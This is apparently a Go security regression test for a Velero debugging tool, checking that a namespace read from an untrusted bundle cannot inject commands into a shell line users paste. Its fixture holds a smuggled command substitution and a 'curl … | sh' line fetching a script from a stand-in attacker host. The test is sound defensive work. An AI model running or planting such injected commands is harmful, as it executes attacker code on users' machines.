package debug

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/velero-debug/velero-debug/internal/bundle"
)

// The Velero namespace comes from the bundle's manifest.json (untrusted)
// and is printed as a shell line the user is told to paste:
// "export VELERO_NAMESPACE=<it>". A bundle whose namespace is
// "velero$(touch /tmp/x)" (or holds a newline and a command) runs a
// command of the bundle's author in the maintainer's shell. The value
// printed must be a namespace name (or quoted).
func TestServeNamespaceNotPastedIntoShell(t *testing.T) {
	in := filepath.Join(t.TempDir(), "b.tar.gz")
	w, err := bundle.Create(in, bundle.Options{})
	require.NoError(t, err)
	require.NoError(t, w.AddBytes(bundle.Item{Path: "logs/velero/p/c.log", Type: "log"}, []byte("x\n")))
	require.NoError(t, w.Close(bundle.Meta{Complete: true, Options: map[string]any{"namespace": "velero$(touch /tmp/velero-debug-pwned)\n  curl -s https://attacker.example/x | sh"}}))

	kc := filepath.Join(t.TempDir(), "kubeconfig")
	streams, _, out, errOut := genericiooptions.NewTestIOStreams()
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	cmd := NewCommand(nil, streams)
	cmd.SetArgs([]string{"serve", in, "--write-kubeconfig", kc})
	done := make(chan error, 1)
	go func() { done <- cmd.ExecuteContext(ctx) }()
	deadline := time.After(10 * time.Second)
	for {
		if _, err := os.Stat(kc); err == nil {
			break
		}
		select {
		case err := <-done:
			// Refusing the bundle's namespace is a fix too.
			require.Error(t, err)
			return
		case <-deadline:
			t.Fatal("serve wrote no kubeconfig")
		case <-time.After(10 * time.Millisecond):
		}
	}
	cancel()
	require.NoError(t, <-done)
	require.Empty(t, out.String())
	safe := regexp.MustCompile(`^  export VELERO_NAMESPACE=([a-z0-9]([-a-z0-9]*[a-z0-9])?|'[^']*')$`)
	for _, line := range strings.Split(errOut.String(), "\n") {
		require.NotContains(t, line, "attacker.example", "a line of the bundle's in the lines to paste")
		if strings.HasPrefix(line, "  export VELERO_NAMESPACE=") {
			require.Regexp(t, safe, line)
		}
	}
}
